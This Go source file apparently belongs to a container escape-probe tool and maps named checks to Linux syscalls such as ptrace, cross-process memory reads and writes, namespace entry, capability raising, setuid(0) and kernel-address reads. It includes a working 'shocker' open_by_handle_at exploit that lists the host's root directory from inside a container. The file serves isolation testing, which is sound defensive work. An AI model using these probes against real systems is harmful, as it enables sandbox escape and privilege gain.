package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

func processOps() map[string]operation {
	pid := func(do func(int) error) operation {
		return operation{1, func(a []string) (string, error) {
			n, err := strconv.Atoi(a[0])
			if err != nil {
				return "", err
			}
			return "", do(n)
		}}
	}
	return map[string]operation{
		"signal":       pid(func(pid int) error { return unix.Kill(pid, 0) }),
		"quit":         pid(func(pid int) error { return unix.Kill(pid, unix.SIGQUIT) }),
		"pidfd_signal": pid(pidfdSignal),
		"trace":        pid(trace),
		"vm_readv":     pid(readMemory),
		"vm_writev":    pid(writeMemory),
		"pidfd_getfd":  pid(takeDescriptor),
		"kcmp": pid(func(pid int) error {
			return errnoErr(unix.Syscall6(unix.SYS_KCMP, uintptr(pid), uintptr(pid), 0, 0, 0, 0))
		}),
		"prlimit": pid(func(pid int) error {
			var old unix.Rlimit
			return unix.Prlimit(pid, unix.RLIMIT_NOFILE, nil, &old)
		}),
		"setns":        {1, func(a []string) (string, error) { return "", enter(a[0]) }},
		"clone_user":   {0, func([]string) (string, error) { return "", clone(unix.CLONE_NEWUSER) }},
		"clone_net":    {0, func([]string) (string, error) { return "", clone(unix.CLONE_NEWUSER | unix.CLONE_NEWNET) }},
		"by_handle":    {1, func(a []string) (string, error) { return byHandle(a[0]) }},
		"shm":          {1, func(a []string) (string, error) { return "", attachShm(a[0]) }},
		"capset":       {0, func([]string) (string, error) { return "", regainCapabilities() }},
		"ambient":      {0, func([]string) (string, error) { return "", raiseAmbient() }},
		"setuid":       {0, func([]string) (string, error) { return "", unix.Setresuid(0, 0, 0) }},
		"setgroups":    {0, func([]string) (string, error) { return "", unix.Setgroups([]int{0}) }},
		"sethostname":  {0, func([]string) (string, error) { return setHostname() }},
		"syslog":       {0, func([]string) (string, error) { return kernelLog() }},
		"undumpable":   {0, func([]string) (string, error) { return "", unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) }},
		"oom_score":    {1, func(a []string) (string, error) { return "", os.WriteFile("/proc/self/oom_score_adj", []byte(a[0]), 0) }},
		"renice":       {0, func([]string) (string, error) { return "", unix.Setpriority(unix.PRIO_PROCESS, 0, -20) }},
		"mlockall":     {0, func([]string) (string, error) { return "", unix.Mlockall(unix.MCL_CURRENT | unix.MCL_FUTURE) }},
		"new_keyring":  {0, func([]string) (string, error) { return joinKeyring() }},
		"kernel_bases": {0, func([]string) (string, error) { return kernelAddresses() }},
	}
}

func pidfdSignal(pid int) error {
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	return unix.PidfdSendSignal(fd, 0, nil, 0)
}

// trace attaches and detaches without stopping the process.
func trace(pid int) error {
	const seize = 0x4206
	if err := errnoErr(unix.Syscall6(unix.SYS_PTRACE, seize, uintptr(pid), 0, 0, 0, 0)); err != nil {
		return err
	}
	return nil // this thread's end detaches
}

// The guest is linked at this address (amd64); elsewhere the answer is EFAULT, after the check of the permission.
const textAddress = 0x400000

func vectors(b *byte) (unix.Iovec, unix.RemoteIovec) {
	local := unix.Iovec{Base: b}
	local.SetLen(1)
	return local, unix.RemoteIovec{Base: textAddress, Len: 1}
}

func readMemory(pid int) error {
	var b byte
	local, remote := vectors(&b)
	_, err := unix.ProcessVMReadv(pid, []unix.Iovec{local}, []unix.RemoteIovec{remote}, 0)
	return err
}

// writeMemory writes to memory that is mapped read-only: EFAULT is the answer to whoever may.
func writeMemory(pid int) error {
	var b byte
	local, remote := vectors(&b)
	_, err := unix.ProcessVMWritev(pid, []unix.Iovec{local}, []unix.RemoteIovec{remote}, 0)
	return err
}

func takeDescriptor(pid int) error {
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	_, err = unix.PidfdGetfd(fd, 1, 0)
	return err
}

// clone starts a process in new namespaces. It may fail later, for instance to find /proc; it was in them by then.
func clone(flags uintptr) error {
	cmd := exec.Command("/proc/self/exe")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flags}
	if err := cmd.Start(); err != nil {
		return err
	}
	_ = cmd.Wait()
	return nil
}

func enter(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return unix.Setns(fd, 0)
}

// byHandle is the "shocker" exploit: it opens the root directory of the file system that a bound file comes from, by
// its inode number, and lists it.
func byHandle(boundFile string) (string, error) {
	at, err := unix.Open(boundFile, unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	rootInode := []byte{2, 0, 0, 0, 0, 0, 0, 0} // and generation 0: FILEID_INO32_GEN of ext4
	fd, err := unix.OpenByHandleAt(at, unix.NewFileHandle(1, rootInode), unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return "", err
	}
	entries, err := os.NewFile(uintptr(fd), "root").Readdirnames(-1)
	return fmt.Sprintf("the host's root directory has %d entries", len(entries)), err
}

// attachShm looks for a System V segment by its key.
func attachShm(key string) error {
	n, err := strconv.Atoi(key)
	if err != nil {
		return err
	}
	_, err = unix.SysvShmGet(n, 0, 0)
	return err
}

func regainCapabilities() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	all := [2]unix.CapUserData{}
	all[0].Permitted = 1<<unix.CAP_NET_ADMIN | 1<<unix.CAP_SYS_ADMIN
	all[0].Effective = all[0].Permitted
	return unix.Capset(&header, &all[0])
}

func raiseAmbient() error {
	// Inheritable first, as the ambient set asks for it (capabilities(7)).
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var have [2]unix.CapUserData
	if err := unix.Capget(&header, &have[0]); err != nil {
		return err
	}
	have[0].Inheritable |= 1 << unix.CAP_NET_ADMIN
	if err := unix.Capset(&header, &have[0]); err != nil {
		return err
	}
	return unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, unix.CAP_NET_ADMIN, 0, 0)
}

// setHostname sets the name that there is.
func setHostname() (string, error) {
	name, err := os.Hostname()
	if err != nil {
		return "", err
	}
	return name, unix.Sethostname([]byte(name))
}

func kernelLog() (string, error) {
	const sizeBuffer = 10
	n, err := unix.Klogctl(sizeBuffer, nil)
	if err != nil {
		return "", err
	}
	const readAll = 3
	b := make([]byte, 4096)
	_, err = unix.Klogctl(readAll, b)
	return fmt.Sprintf("a log of %d bytes", n), err
}

func joinKeyring() (string, error) {
	id, err := unix.KeyctlJoinSessionKeyring("escapeprobe")
	return fmt.Sprint("keyring ", id), err
}

// kernelAddresses says whether /proc/kallsyms tells where the kernel is.
func kernelAddresses() (string, error) {
	b, err := os.ReadFile("/proc/kallsyms")
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(string(b)) {
		if !strings.HasPrefix(line, "0000000000000000 ") {
			return strings.TrimSpace(line), nil
		}
	}
	return "", syscall.EPERM
}
